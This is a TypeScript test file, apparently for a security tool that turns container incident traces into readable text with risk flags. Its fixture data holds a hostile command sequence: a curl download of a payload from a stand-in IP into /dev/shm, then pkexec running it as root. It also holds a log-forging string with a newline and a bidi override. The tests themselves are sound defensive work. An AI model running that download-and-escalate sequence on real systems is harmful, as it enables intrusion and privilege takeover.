import assert from "node:assert/strict";
import { test } from "node:test";
import { traceText } from "../../../src/pages/traceText.ts";
import { incidentRecords, shownTrace } from "../../pages/traceHost.ts";
import { englishTrace } from "../../pages/words.ts";

function text(...[options]: Parameters<typeof shownTrace>): readonly string[] {
  return traceText(shownTrace(options).state, "Asia/Shanghai", englishTrace).split("\n");
}

test("the head says where, who, how long and what was searched", () =>
  assert.deepEqual(text().slice(0, 7), [
    "api-6f7c9d5b8-k2x4p / api",
    "Sample · shop-prod · payments · cn-hangzhou.10.0.0.7 · registry.example/shop/api:2.14.1",
    "trace 7c1f0e2d-5b9a-4c77-9a30-100000700000",
    "2026-11-23 14:28:40.112 → 18:43:50.112 +08:00, at least 4 h 15 min",
    "entered by dev-07 208712345678904410 running bash · 18 commands · 6 risky · uid 1000 → 0",
    "Searched 2026-11-22 14:28:40.112 → 2026-11-24 14:28:40.112 +08:00; what was run outside of it is not shown.",
    "",
  ]));
test("a command has its times, its place in the tree, directory, uid and risk", () => {
  const lines = text();
  assert.equal(
    lines.find((line) => line.includes("curl -fsSL")),
    "2026-11-23 18:41:39.112   +4:12:59        curl -fsSL http://198.51.100.23/d/kw -o /dev/shm/.kw  [/tmp]  [uid 1000]" +
      "  !! Medium: A program of the vendor's list of risky programs. (vendor-risky-program)",
  );
  assert.ok(lines.some((line) => line.includes("pkexec /dev/shm/.kw  [/]  [uid becomes 0]")));
  assert.ok(lines.some((line) => line.includes("[Started by containerd-shim, which was not recorded]")));
});
test("idle stretches are lines of their own", () => assert.ok(text().includes("    -- 4 h 11 min idle --")));
test("an entry that was not recorded and gaps are said", () => {
  const lines = text({ records: incidentRecords.slice(1), changes: { gaps: ["It was cancelled."] } });
  assert.ok(lines.some((line) => line.startsWith("No record of the entry itself between 2026-11-22")));
  assert.ok(lines.includes("This trace is incomplete."));
  assert.ok(lines.includes("It was cancelled."));
  assert.ok(lines[4]?.startsWith("entered by dev-07 208712345678904410 · 18 commands"));
});
test("who the account is stands beside its id, in the head and at the entry", () => {
  const identity = { name: "li.wei", detail: "RAM user li.wei" };
  const lines = text({
    changes: { identity, user: { username: "2087-1700000000", aliuid: "2087", groups: [] } },
  });
  assert.equal(lines[4], "entered by li.wei 2087 running bash · 18 commands · 6 risky · uid 1000 → 0");
  assert.ok(lines.some((line) => line.endsWith("li.wei enters, running bash")));
  const recorded = text({ changes: { identity } });
  assert.ok(recorded[4]?.startsWith("entered by dev-07 li.wei 208712345678904410 running bash · "));
});
test("hostile text stays on its line and is seen", () => {
  const [first = {}] = incidentRecords.slice(1);
  const process = JSON.stringify({ name: "x", cmdline: "x\n2026-11-23 forged\u202e", pid: 1 });
  const lines = text({ records: [{ ...first, process }], riskOf: () => undefined });
  assert.ok(lines.some((line) => line.includes("x⏎2026-11-23 forged⟨U+202E⟩")));
});
test("other records and an entry without a command are said", () => {
  const other = { __time__: "1000000000", kind: "Network", traceId: "t", eventId: "n" };
  const bare = { __time__: "1000000000", kind: "Kubernetes", traceId: "t", eventId: "k" };
  const lines = text({ records: [other, bare], riskOf: () => undefined });
  assert.ok(lines.some((line) => line.endsWith("other record: Network")));
  assert.ok(lines.some((line) => line.endsWith("an unknown account enters")));
  assert.ok(lines.some((line) => line.includes("0 commands · none risky")));
});
